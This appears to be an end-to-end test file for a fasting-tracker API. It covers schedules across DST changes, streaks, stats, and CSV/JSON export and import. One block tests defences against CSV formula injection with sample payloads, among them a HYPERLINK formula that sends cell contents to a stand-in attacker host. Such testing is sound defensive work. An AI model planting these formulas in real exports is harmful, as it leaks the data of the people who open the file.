// End-to-end: fasting plans and insights against the real server, PostgreSQL and Redis.
// GET/PUT /fasting/schedule (validation, one plan per user), upcoming fasts for 16:8, 5:2 and
// alternate-day plans across DST changes, streaks and per-day stats from sessions made through
// the API and imported history (Berlin's 23- and 25-hour days, a user who changes zone), CSV
// and JSON export, the export -> import round trip onto a second user, re-imports that add
// nothing, bad CSVs that store nothing, and two users who cannot see each other's data. Every
// response is checked against api/openapi.yaml, stored rows with psql.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';

import { assertError, AuthSuite, bearer, psql } from './support/auth.mjs';
import { assertMatchesContract } from './support/contract.mjs';
import { request } from './support/server.mjs';

const SCHEDULE = '/api/v1/fasting/schedule';
const UPCOMING = '/api/v1/fasting/schedule/upcoming';
const STREAKS = '/api/v1/fasting/streaks';
const STATS = '/api/v1/fasting/stats';
const EXPORT = '/api/v1/fasting/sessions/export';
const IMPORT = '/api/v1/fasting/sessions/import';
const SESSIONS = '/api/v1/fasting/sessions';
const HEADER = 'date,start,end,hours,target_hours,status,protocol,timezone,notes';

const suite = new AuthSuite();
before(() => suite.start());
after(async () => {
  // Stop first: a failed log check must not leave the server, and this process, running.
  await suite.stop();
  suite.assertLogClean();
});

function call(method, path, token, body, headers = {}) {
  return request(suite.base, method, path, { headers: bearer(token, headers), body });
}

function importCsv(token, csv, type = 'text/csv') {
  return call('POST', IMPORT, token, csv, { 'content-type': type });
}

async function newUser(timezone) {
  const u = await suite.newUser();
  u.id = (await suite.me(u.access)).json.data.id;
  if (timezone) {
    const res = await call('PATCH', '/api/v1/users/me', u.access, { timezone });
    assert.equal(res.status, 200, res.text);
  }
  return u;
}

let protocolsBySlug;
async function protocol(slug) {
  if (!protocolsBySlug) {
    const res = await request(suite.base, 'GET', '/api/v1/fasting/protocols');
    protocolsBySlug = Object.fromEntries(res.json.data.map((p) => [p.slug, p]));
  }
  return protocolsBySlug[slug];
}

const fields = (res) => res.json.error.details.map((d) => d.field).sort();
const sessionsOf = async (id, where = 'true') => Number(await psql(
  `SELECT count(*) FROM fasting_sessions WHERE user_id = '${id}' AND ${where}`));
const iso = (ms) => new Date(ms).toISOString().replace(/\.\d{3}Z$/, 'Z');
// The local date of an instant in a zone, as the server computes it (YYYY-MM-DD).
const localDate = (ms, timeZone) => new Intl.DateTimeFormat('en-CA', { timeZone })
  .format(new Date(ms));

function row({ start, end, target = 16, status = 'completed', protocol = '', tz = '',
  notes = '' }) {
  return `,${start},${end},,${target},${status},${protocol},${tz},${notes}`;
}

describe('GET/PUT /fasting/schedule', () => {
  test('404 before a plan, then a 16:8 plan saved, read back and replaced in place', async () => {
    const u = await newUser('Europe/Berlin');
    const none = await call('GET', SCHEDULE, u.access);
    assertError(none, 404, 'FAST_010');
    assertMatchesContract('GET', SCHEDULE, none);

    const p168 = await protocol('16-8');
    const put = await call('PUT', SCHEDULE, u.access, {
      protocol_id: p168.id, start_time: '20:00', reminder_minutes_before: 30 });
    assert.equal(put.status, 200, put.text);
    assertMatchesContract('PUT', SCHEDULE, put);
    const plan = put.json.data;
    assert.equal(plan.protocol_slug, '16-8');
    assert.equal(plan.kind, 'daily_tre');
    assert.equal(plan.fasting_seconds, 16 * 3600);
    assert.deepEqual(plan.weekdays, [1, 2, 3, 4, 5, 6, 7]);
    assert.equal(plan.timezone, 'Europe/Berlin'); // the profile's
    assert.equal(plan.start_time, '20:00');
    assert.equal(plan.reminder_minutes_before, 30);
    assert.equal(plan.anchor_date, null);

    const got = await call('GET', SCHEDULE, u.access);
    assert.equal(got.status, 200);
    assertMatchesContract('GET', SCHEDULE, got);
    assert.deepEqual(got.json.data, plan);

    const custom = await call('PUT', SCHEDULE, u.access, {
      fasting_seconds: 14 * 3600, weekdays: [5, 1, 3], start_time: '19:30',
      timezone: 'America/Los_Angeles' });
    assert.equal(custom.status, 200, custom.text);
    assert.equal(custom.json.data.id, plan.id);
    assert.equal(custom.json.data.kind, 'custom');
    assert.equal(custom.json.data.protocol_id, null);
    assert.deepEqual(custom.json.data.weekdays, [1, 3, 5]);
    assert.equal(custom.json.data.reminder_minutes_before, null);
    assert.equal(await psql(`SELECT count(*) || ' ' || min(fasting_minutes) || ' ' ||
      min(timezone) || ' ' || min(array_to_string(weekdays, ','))
      FROM fasting_schedules WHERE user_id = '${u.id}'`), '1 840 America/Los_Angeles 1,3,5');
  });

  test('bad plans are 400 naming every field, unknown protocols 422; nothing is stored',
    async () => {
      const u = await newUser();
      const p168 = await protocol('16-8');
      const p52 = await protocol('5-2');
      const both = await call('PUT', SCHEDULE, u.access, {
        protocol_id: p168.id, fasting_seconds: 3600, start_time: '25:00', weekdays: [0],
        timezone: 'Mars/Olympus', colour: 'red', reminder_minutes_before: 5000 });
      assertError(both, 400, 'VAL_001');
      assertMatchesContract('PUT', SCHEDULE, both);
      // The unknown zone is named with the rest (issue 10: every bad field in one answer).
      assert.deepEqual(fields(both), ['colour', 'fasting_seconds', 'reminder_minutes_before',
        'start_time', 'timezone', 'weekdays']);
      const zone = await call('PUT', SCHEDULE, u.access, {
        protocol_id: p168.id, start_time: '20:00', timezone: 'Mars/Olympus' });
      assertError(zone, 400, 'VAL_001');
      assert.deepEqual(fields(zone), ['timezone']);
      const threeDays = await call('PUT', SCHEDULE, u.access, {
        protocol_id: p52.id, start_time: '08:00', weekdays: [1, 3, 5] });
      assertError(threeDays, 400, 'VAL_001');
      assert.match(threeDays.json.error.details[0].message, /exactly 2 days/);
      // The protocol's rules are checked even when another field is bad.
      const threeAndMore = await call('PUT', SCHEDULE, u.access, {
        protocol_id: p52.id, start_time: '8am', weekdays: [1, 3, 5],
        reminder_minutes_before: -1, timezone: 'Mars/Olympus' });
      assertError(threeAndMore, 400, 'VAL_001');
      assert.deepEqual(fields(threeAndMore), ['reminder_minutes_before', 'start_time', 'timezone',
        'weekdays']);
      const adjacent = await call('PUT', SCHEDULE, u.access, {
        protocol_id: p52.id, start_time: '08:00', weekdays: [7, 1] });
      assertError(adjacent, 400, 'VAL_001');
      const overlapping = await call('PUT', SCHEDULE, u.access, {
        protocol_id: (await protocol('36h')).id, start_time: '08:00' });
      assertError(overlapping, 400, 'VAL_001');
      assert.deepEqual(fields(overlapping), ['weekdays']);
      const unknown = await call('PUT', SCHEDULE, u.access, {
        protocol_id: '00000000-0000-4000-8000-000000000000', start_time: '20:00' });
      assertError(unknown, 422, 'FAST_002');
      assertMatchesContract('PUT', SCHEDULE, unknown);
      assert.equal(await psql(`SELECT count(*) FROM fasting_schedules
        WHERE user_id = '${u.id}'`), '0');
    });

  test('another user sees only their own plan', async () => {
    const a = await newUser();
    const b = await newUser();
    const put = await call('PUT', SCHEDULE, a.access, {
      protocol_id: (await protocol('18-6')).id, start_time: '18:00' });
    assert.equal(put.status, 200, put.text);
    assertError(await call('GET', SCHEDULE, b.access), 404, 'FAST_010');
    assertError(await call('GET', UPCOMING, b.access), 404, 'FAST_010');
    assertError(await call('GET', SCHEDULE), 401, 'AUTH_002');
  });
});

describe('GET /fasting/schedule/upcoming', () => {
  test('16:8 in Berlin across the spring change: 16 elapsed hours, wall clock an hour later',
    async () => {
      const u = await newUser('Europe/Berlin');
      await call('PUT', SCHEDULE, u.access, {
        protocol_id: (await protocol('16-8')).id, start_time: '20:00' });
      // Berlin moves to summer time on Sunday 2027-03-28.
      const res = await call('GET', `${UPCOMING}?from=2027-03-26&days=4`, u.access);
      assert.equal(res.status, 200, res.text);
      assertMatchesContract('GET', UPCOMING, res);
      const f = res.json.data.fasts;
      assert.deepEqual(f.map((x) => x.local_date),
        ['2027-03-26', '2027-03-27', '2027-03-28', '2027-03-29']);
      assert.deepEqual(f[1], {
        local_date: '2027-03-27', kind: 'daily_window',
        start_at: '2027-03-27T19:00:00Z', end_at: '2027-03-28T11:00:00Z',
        start_local: '2027-03-27T20:00:00', end_local: '2027-03-28T13:00:00',
        fasting_seconds: 57600, fast_day_kcal: null });
      assert.equal(f[2].start_at, '2027-03-28T18:00:00Z'); // 20:00 CEST
      assert.equal(f[2].end_local, '2027-03-29T12:00:00');
    });

  test('5:2 fast days in Los Angeles across the spring change, with their kcal', async () => {
    const u = await newUser('America/Los_Angeles');
    const p52 = await protocol('5-2');
    const put = await call('PUT', SCHEDULE, u.access, {
      protocol_id: p52.id, start_time: '18:00', weekdays: [4, 6] });
    assert.equal(put.status, 200, put.text);
    // Los Angeles moves to daylight time on Sunday 2027-03-14.
    const res = await call('GET', `${UPCOMING}?from=2027-03-08&days=14`, u.access);
    assert.equal(res.status, 200, res.text);
    assertMatchesContract('GET', UPCOMING, res);
    const f = res.json.data.fasts;
    assert.deepEqual(f.map((x) => x.local_date),
      ['2027-03-11', '2027-03-13', '2027-03-18', '2027-03-20']);
    assert.ok(f.every((x) => x.kind === 'fast_day' && x.fast_day_kcal === p52.fast_day_kcal));
    // Saturday 18:00 PST, 24 hours on: Sunday 19:00 PDT.
    assert.equal(f[1].start_at, '2027-03-14T02:00:00Z');
    assert.equal(f[1].end_at, '2027-03-15T02:00:00Z');
    assert.equal(f[1].end_local, '2027-03-14T19:00:00');
    assert.equal(f[2].start_at, '2027-03-19T01:00:00Z'); // 18:00 PDT
  });

  test('alternate days in Berlin across the autumn change follow the anchor', async () => {
    const u = await newUser('Europe/Berlin');
    const adf = await protocol('alternate-day');
    const put = await call('PUT', SCHEDULE, u.access, {
      protocol_id: adf.id, start_time: '08:00', anchor_date: '2027-10-30' });
    assert.equal(put.status, 200, put.text);
    assert.equal(put.json.data.anchor_date, '2027-10-30');
    // Berlin returns to standard time on Sunday 2027-10-31.
    const res = await call('GET', `${UPCOMING}?from=2027-10-29&days=5`, u.access);
    assert.equal(res.status, 200, res.text);
    const f = res.json.data.fasts;
    assert.deepEqual(f.map((x) => x.local_date), ['2027-10-30', '2027-11-01']);
    assert.equal(f[0].kind, 'alternate_day');
    assert.equal(f[0].fast_day_kcal, adf.fast_day_kcal);
    assert.equal(f[0].start_at, '2027-10-30T06:00:00Z'); // 08:00 CEST
    assert.equal(f[0].end_local, '2027-10-31T07:00:00'); // 24 h later, CET
    // Weekdays make no sense for a cycle.
    const bad = await call('PUT', SCHEDULE, u.access, {
      protocol_id: adf.id, start_time: '08:00', weekdays: [1] });
    assertError(bad, 400, 'VAL_001');
  });

  test('from today: every fast ends in the future; days and from are validated', async () => {
    const u = await newUser();
    await call('PUT', SCHEDULE, u.access, {
      protocol_id: (await protocol('16-8')).id, start_time: '20:00', timezone: 'UTC' });
    const res = await call('GET', `${UPCOMING}?days=3`, u.access);
    assert.equal(res.status, 200, res.text);
    const now = Date.now();
    const f = res.json.data.fasts;
    assert.ok(f.length >= 3 && f.length <= 4, res.text);
    assert.ok(f.every((x) => Date.parse(x.end_at) > now - 5000));
    assert.equal(res.json.data.today, localDate(now, 'UTC'));
    for (const q of ['days=0', 'days=61', 'days=x', 'from=2020-01-01', 'from=2026-02-30']) {
      const bad = await call('GET', `${UPCOMING}?${q}`, u.access);
      assertError(bad, 400, 'VAL_001');
      assertMatchesContract('GET', UPCOMING, bad);
    }
    assert.deepEqual(fields(await call('GET', `${UPCOMING}?days=0&from=2026-02-30`, u.access)),
      ['days', 'from']);
    const stats = await call('GET', `${STATS}?from=2026-13-01&to=today`, u.access);
    assertError(stats, 400, 'VAL_001');
    assertMatchesContract('GET', STATS, stats);
    assert.deepEqual(fields(stats), ['from', 'to']);
  });
});

describe('streaks and stats', () => {
  // Imported history around Berlin's 2026 changes (see docs/fasting-streaks.md):
  // Z ends 00:30 CET on 03-27 (UTC date 03-26); A-D end on 03-28..03-31 at 12:00/13:00 local;
  // E ends early on 04-01; F ends 13:00 CET on 10-25, the 25-hour day.
  const history = [
    row({ start: '2026-03-26T07:00:00Z', end: '2026-03-26T23:30:00Z', protocol: '16-8' }),
    row({ start: '2026-03-27T19:00:00Z', end: '2026-03-28T11:00:00Z', protocol: '16-8' }),
    row({ start: '2026-03-28T19:00:00Z', end: '2026-03-29T11:00:00Z', protocol: '16-8' }),
    row({ start: '2026-03-29T18:00:00Z', end: '2026-03-30T10:00:00Z' }),
    row({ start: '2026-03-30T18:00:00Z', end: '2026-03-31T10:00:00Z', notes: '"fine, mostly"' }),
    row({ start: '2026-03-31T18:00:00Z', end: '2026-04-01T04:00:00Z', status: 'ended_early' }),
    row({ start: '2026-10-24T20:00:00Z', end: '2026-10-25T12:00:00Z' }),
  ];
  let u;

  before(async () => {
    u = await newUser('Europe/Berlin');
    const res = await importCsv(u.access, [HEADER, ...history].join('\r\n'));
    assert.equal(res.status, 200, res.text);
    assert.deepEqual(res.json.data, { imported: 7, skipped_duplicates: 0 });
    // Two fasts through the API: one ending exactly 24 h ago, one ending now.
    const now = Date.now();
    const first = await call('POST', SESSIONS, u.access, {
      target_hours: 16, started_at: iso(now - 44 * 3600e3) });
    assert.equal(first.status, 201, first.text);
    const end1 = await call('POST', `${SESSIONS}/${first.json.data.id}/end`, u.access, {
      ended_at: iso(now - 24 * 3600e3) });
    assert.equal(end1.status, 200, end1.text);
    const second = await call('POST', SESSIONS, u.access, {
      target_hours: 16, started_at: iso(now - 20 * 3600e3) });
    assert.equal(second.status, 201, second.text);
    const end2 = await call('POST', `${SESSIONS}/${second.json.data.id}/end`, u.access, {});
    assert.equal(end2.status, 200, end2.text);
  });

  test('imported fasts count for the local day they ended on', async () => {
    assert.equal(await psql(`SELECT string_agg(end_local_date::text, ',' ORDER BY started_at)
      FROM fasting_sessions WHERE user_id = '${u.id}' AND source = 'import'`),
    '2026-03-27,2026-03-28,2026-03-29,2026-03-30,2026-03-31,2026-04-01,2026-10-25');
    assert.equal(await sessionsOf(u.id, `source = 'import' AND timezone = 'Europe/Berlin'
      AND protocol_slug IS NOT DISTINCT FROM CASE WHEN started_at < '2026-03-29'
      THEN '16-8' END`), 7);
  });

  test('current and longest streak, totals and weeks', async () => {
    const res = await call('GET', STREAKS, u.access);
    assert.equal(res.status, 200, res.text);
    assertMatchesContract('GET', STREAKS, res);
    const s = res.json.data;
    const today = localDate(Date.now(), 'Europe/Berlin');
    assert.equal(s.unit, 'day');
    assert.equal(s.timezone, 'Europe/Berlin');
    assert.equal(s.today, today);
    assert.equal(s.current_streak, 2);
    assert.equal(s.current_streak_end, today);
    assert.equal(s.longest_streak, 5); // 03-27..03-31 over the 23-hour day
    assert.equal(s.totals.fasts_completed, 8);
    assert.equal(s.totals.fasts_ended_early, 1);
    assert.equal(s.totals.completion_rate, 8 / 9);
    assert.ok(s.this_week.fasts_completed + s.last_week.fasts_completed >= 1);
  });

  test('stats split fasts at local midnight; 23- and 25-hour days', async () => {
    const spring = await call('GET', `${STATS}?from=2026-03-28&to=2026-03-30`, u.access);
    assert.equal(spring.status, 200, spring.text);
    assertMatchesContract('GET', STATS, spring);
    assert.equal(spring.json.data.timezone, 'Europe/Berlin');
    assert.deepEqual(spring.json.data.days.map((d) => [d.date, d.day_seconds, d.seconds_fasted]), [
      ['2026-03-28', 86400, 16 * 3600],
      ['2026-03-29', 82800, 16 * 3600],
      ['2026-03-30', 86400, 16 * 3600],
    ]);
    const autumn = await call('GET', `${STATS}?from=2026-10-25&to=2026-10-25`, u.access);
    assert.deepEqual(autumn.json.data.days, [
      { date: '2026-10-25', day_seconds: 90000, seconds_fasted: 14 * 3600, fasts: 1 }]);
    for (const q of ['from=2026-03-30&to=2026-03-28', 'from=2025-01-01&to=2026-03-01',
      'from=2026-13-01&to=2026-03-01']) {
      const bad = await call('GET', `${STATS}?${q}`, u.access);
      assertError(bad, 400, 'VAL_001');
      assertMatchesContract('GET', STATS, bad);
    }
  });

  test('a new user has no streak and no other user sees these fasts', async () => {
    const other = await newUser();
    const res = await call('GET', STREAKS, other.access);
    assert.equal(res.status, 200);
    assert.equal(res.json.data.current_streak, 0);
    assert.equal(res.json.data.totals.fasts_completed, 0);
    assert.equal(res.json.data.totals.completion_rate, null);
    const stats = await call('GET', `${STATS}?from=2026-03-28&to=2026-03-30`, other.access);
    assert.ok(stats.json.data.days.every((d) => d.seconds_fasted === 0 && d.fasts === 0));
    const exp = await call('GET', `${EXPORT}?format=json`, other.access);
    assert.equal(exp.json.data.count, 0);
  });

  test('export -> import onto a second user; importing again adds nothing', async () => {
    const csv = await call('GET', EXPORT, u.access);
    assert.equal(csv.status, 200, csv.text);
    assert.match(csv.headers.get('content-type'), /^text\/csv/);
    assert.match(csv.headers.get('content-disposition'), /^attachment; filename="[^"]+\.csv"$/);
    const lines = csv.text.trimEnd().split('\r\n');
    assert.equal(lines[0], HEADER);
    assert.equal(lines.length, 1 + 9);
    assert.ok(csv.text.includes(',"fine, mostly"\r\n'), 'RFC 4180 quoting of notes');

    const json = await call('GET', `${EXPORT}?format=json`, u.access);
    assert.equal(json.status, 200);
    assertMatchesContract('GET', EXPORT, json);
    assert.equal(json.json.data.count, 9);
    // Accept: the CSV for a client that asks for it; 406 for one that takes neither type.
    const asked = await call('GET', EXPORT, u.access, undefined, { accept: 'text/csv' });
    assert.equal(asked.status, 200, asked.text);
    assert.equal(asked.text, csv.text);
    const either = await call('GET', `${EXPORT}?format=json`, u.access, undefined,
      { accept: 'text/csv;q=0.5, application/json' });
    assert.equal(either.status, 200, either.text);
    const xml = await call('GET', EXPORT, u.access, undefined, { accept: 'application/xml' });
    assertError(xml, 406, 'REQ_005');
    assertMatchesContract('GET', EXPORT, xml);

    const v = await newUser('Asia/Tokyo');
    const imported = await importCsv(v.access, csv.text);
    assert.equal(imported.status, 200, imported.text);
    assertMatchesContract('POST', IMPORT, imported);
    assert.deepEqual(imported.json.data, { imported: 9, skipped_duplicates: 0 });
    assert.equal(await sessionsOf(v.id, `source = 'import'`), 9);
    const pick = (f) => [f.date, f.started_at, f.ended_at, f.target_seconds, f.status,
      f.protocol, f.timezone, f.notes];
    const copy = await call('GET', `${EXPORT}?format=json`, v.access);
    assert.deepEqual(copy.json.data.fasts.map(pick), json.json.data.fasts.map(pick));
    const streaks = await call('GET', STREAKS, v.access);
    assert.equal(streaks.json.data.longest_streak, 5);

    const again = await importCsv(v.access, csv.text);
    assert.equal(again.status, 200, again.text);
    assert.deepEqual(again.json.data, { imported: 0, skipped_duplicates: 9 });
    assert.equal(await sessionsOf(v.id), 9);
    // The owner's own export, app sessions included, is all duplicates too.
    const own = await importCsv(u.access, csv.text);
    assert.deepEqual(own.json.data, { imported: 0, skipped_duplicates: 9 });
    assert.equal(await sessionsOf(u.id), 9);
  });
});

describe('CSV export guards spreadsheet formulas (OWASP CSV injection)', () => {
  // Notes a spreadsheet would run as formulas, and one a user quoted themselves.
  const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '+1+1', '-2',
    '@SUM(A1)', '\t=1', "'=already quoted"];
  // How each is written: one quote more, and the field always quoted (quotes doubled).
  const CELLS = ['"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"', '"\'+1+1"',
    '"\'-2"', '"\'@SUM(A1)"', '"\'\t=1"', '"\'\'=already quoted"'];

  test('notes are written as quoted text, and an import brings them back identical', async () => {
    const u = await newUser('UTC');
    const now = Date.now();
    for (const [i, notes] of HOSTILE.entries()) {
      const start = now - (47 - 7 * i) * 3600e3;
      const s = await call('POST', SESSIONS, u.access, {
        target_hours: 1, started_at: iso(start), notes });
      assert.equal(s.status, 201, s.text);
      const e = await call('POST', `${SESSIONS}/${s.json.data.id}/end`, u.access, {
        ended_at: iso(start + 2 * 3600e3) });
      assert.equal(e.status, 200, e.text);
    }
    const csv = await call('GET', EXPORT, u.access);
    assert.equal(csv.status, 200, csv.text);
    const lines = csv.text.split('\r\n');
    assert.equal(lines[0], HEADER);
    assert.equal(lines.length, 1 + HOSTILE.length + 1, csv.text);  // the last is empty
    for (const [i, cell] of CELLS.entries()) {
      assert.ok(lines[1 + i].endsWith(`,2.00,1.00,completed,,UTC,${cell}`), lines[1 + i]);
    }
    // The JSON export is not for spreadsheets: notes exactly as written.
    const json = await call('GET', `${EXPORT}?format=json`, u.access);
    assert.deepEqual(json.json.data.fasts.map((f) => f.notes), HOSTILE);

    const v = await newUser('Asia/Tokyo');
    const imported = await importCsv(v.access, csv.text);
    assert.equal(imported.status, 200, imported.text);
    assert.deepEqual(imported.json.data, { imported: HOSTILE.length, skipped_duplicates: 0 });
    const copy = await call('GET', `${EXPORT}?format=json`, v.access);
    assert.deepEqual(copy.json.data.fasts.map((f) => f.notes), HOSTILE);
    const stored = await psql(`SELECT string_agg(encode(convert_to(notes, 'UTF8'), 'hex'), ',' `
      + `ORDER BY started_at) FROM fasting_sessions WHERE user_id = '${v.id}'`);
    assert.equal(stored, HOSTILE.map((n) => Buffer.from(n).toString('hex')).join(','));
    // Importing the same file again recognises every row.
    const again = await importCsv(v.access, csv.text);
    assert.deepEqual(again.json.data, { imported: 0, skipped_duplicates: HOSTILE.length });
  });

  test('a note of 2000 characters, not bytes, survives the round trip', async () => {
    const u = await newUser('UTC');
    const notes = `=${'é'.repeat(1999)}`;  // the API's maximum, 4000 bytes, guarded on export
    const start = Date.now() - 10 * 3600e3;
    const s = await call('POST', SESSIONS, u.access, {
      target_hours: 1, started_at: iso(start), notes });
    assert.equal(s.status, 201, s.text);
    await call('POST', `${SESSIONS}/${s.json.data.id}/end`, u.access, {
      ended_at: iso(start + 3600e3) });
    const csv = await call('GET', EXPORT, u.access);
    const v = await newUser();
    const imported = await importCsv(v.access, csv.text);
    assert.equal(imported.status, 200, imported.text);
    const copy = await call('GET', `${EXPORT}?format=json`, v.access);
    assert.equal(copy.json.data.fasts[0].notes, notes);
  });
});

describe('POST /fasting/sessions/import refusals store nothing', () => {
  test('bad rows are 422 naming each line', async () => {
    const u = await newUser();
    const csv = [HEADER,
      row({ start: '2026-01-05T20:00:00Z', end: '2026-01-06T12:00:00Z' }),
      row({ start: '2026-01-06T20:00:00Z', end: '2026-01-06T19:00:00Z' }),
      row({ start: '2026-01-07T20:00:00Z', end: '2026-01-08T12:00:00Z', protocol: 'no-such' }),
      row({ start: '2026-01-08T20:00:00Z', end: '2026-01-09T12:00:00Z', tz: 'Mars/Olympus' }),
      row({ start: '2026-01-09T20:00:00Z', end: '2026-01-10T02:00:00Z' }),
    ].join('\n');
    const res = await importCsv(u.access, csv);
    assertError(res, 422, 'FAST_012');
    assertMatchesContract('POST', IMPORT, res);
    assert.deepEqual([...new Set(fields(res))], ['line 3', 'line 4', 'line 5', 'line 6']);
    assert.equal(await sessionsOf(u.id), 0);
  });

  test('text the database cannot hold (not UTF-8, NUL) is 400 naming its line', async () => {
    const u = await newUser();
    const good = row({ start: '2026-01-05T20:00:00Z', end: '2026-01-06T12:00:00Z', notes: 'ok' });
    for (const bad of [Buffer.from([0x66, 0xff, 0x6f]), Buffer.from([0x61, 0x00, 0x62]),
      Buffer.from([0xed, 0xa0, 0x80])]) {  // a lone byte, a NUL, an encoded surrogate
      const body = Buffer.concat([Buffer.from(`${HEADER}\n${good}\n,2026-01-06T20:00:00Z,`
        + '2026-01-07T12:00:00Z,,16,completed,,,'), bad, Buffer.from('\n')]);
      const res = await importCsv(u.access, body);
      assertError(res, 400, 'VAL_001');
      assertMatchesContract('POST', IMPORT, res);
      assert.deepEqual(fields(res), ['line 3']);
    }
    assert.equal(await sessionsOf(u.id), 0);
  });

  test('broken CSV is 400, a JSON body 415, overlaps with stored fasts 409', async () => {
    const u = await newUser();
    const broken = await importCsv(u.access, `${HEADER}\n,"2026-01-05T20:00:00Z,x\n`);
    assertError(broken, 400, 'VAL_001');
    assertMatchesContract('POST', IMPORT, broken);
    const header = await importCsv(u.access, 'start,end,colour\n');
    assertError(header, 400, 'VAL_001');
    const json = await call('POST', IMPORT, u.access, { csv: HEADER });
    assertError(json, 415, 'REQ_002');

    const now = Date.now();
    const started = await call('POST', SESSIONS, u.access, {
      target_hours: 16, started_at: iso(now - 30 * 3600e3) });
    await call('POST', `${SESSIONS}/${started.json.data.id}/end`, u.access, {
      ended_at: iso(now - 12 * 3600e3) });
    const overlapping = await importCsv(u.access, [HEADER,
      row({ start: '2026-01-05T20:00:00Z', end: '2026-01-06T12:00:00Z' }),
      row({ start: iso(now - 20 * 3600e3), end: iso(now - 2 * 3600e3) }),
    ].join('\n'));
    assertError(overlapping, 409, 'FAST_011');
    assertMatchesContract('POST', IMPORT, overlapping);
    assert.deepEqual(fields(overlapping), ['line 3']);
    assert.equal(await sessionsOf(u.id), 1);
  });
});

describe('streaks of a 5:2 plan', () => {
  test('count planned fast days kept; other days neither break nor extend', async () => {
    const u = await newUser('UTC');
    const put = await call('PUT', SCHEDULE, u.access, {
      protocol_id: (await protocol('5-2')).id, start_time: '12:00', weekdays: [1, 4] });
    assert.equal(put.status, 200, put.text);
    // The last three Mondays/Thursdays before today (UTC), and the Tuesday or Friday after the
    // oldest: a completed fast on a day the plan does not fast on.
    const day = 24 * 3600e3;
    const today = Math.floor(Date.now() / day) * day;
    const planned = [];
    for (let d = today - day; planned.length < 3; d -= day) {
      if ([1, 4].includes(new Date(d).getUTCDay())) {
        planned.push(d);
      }
    }
    const fastDay = (d) => row({ start: iso(d - 12 * 3600e3), end: iso(d + 12 * 3600e3),
      target: 24, protocol: '5-2' });
    const offDay = planned[2] + day;
    const csv = [HEADER, ...planned.map(fastDay),
      row({ start: iso(offDay + 13 * 3600e3), end: iso(offDay + 23 * 3600e3), target: 10 })];
    const res = await importCsv(u.access, csv.join('\n'));
    assert.equal(res.status, 200, res.text);
    const s = (await call('GET', STREAKS, u.access)).json.data;
    assert.equal(s.unit, 'planned_day');
    assert.equal(s.current_streak, 3);
    assert.equal(s.longest_streak, 3);
    assert.equal(s.current_streak_start, localDate(planned[2], 'UTC'));
    assert.equal(s.totals.fasts_completed, 4);
  });
});

describe('a user who changes time zone', () => {
  test('flying from Kiritimati (UTC+14) to Pago Pago (UTC-11) keeps the streak', async () => {
    const u = await newUser('Pacific/Kiritimati');
    const now = Date.now();
    const ends = [2, 1, 0].map((k) => now - 3600e3 - k * 24 * 3600e3);
    const csv = [HEADER, ...ends.map((e) => row({
      start: iso(e - 16 * 3600e3), end: iso(e), tz: 'Pacific/Kiritimati' }))].join('\n');
    const res = await importCsv(u.access, csv);
    assert.equal(res.status, 200, res.text);
    const before = await call('GET', STREAKS, u.access);
    assert.equal(before.json.data.current_streak, 3);
    assert.equal(before.json.data.current_streak_end, localDate(ends[2], 'Pacific/Kiritimati'));

    // A day or two behind now: the fasts are dated "tomorrow", yet the streak stays whole.
    await call('PATCH', '/api/v1/users/me', u.access, { timezone: 'Pacific/Pago_Pago' });
    const after = await call('GET', STREAKS, u.access);
    assert.equal(after.json.data.timezone, 'Pacific/Pago_Pago');
    assert.equal(after.json.data.today, localDate(Date.now(), 'Pacific/Pago_Pago'));
    assert.ok(after.json.data.today < before.json.data.today);
    assert.equal(after.json.data.current_streak, 3);
    assert.equal(after.json.data.longest_streak, 3);
  });
});
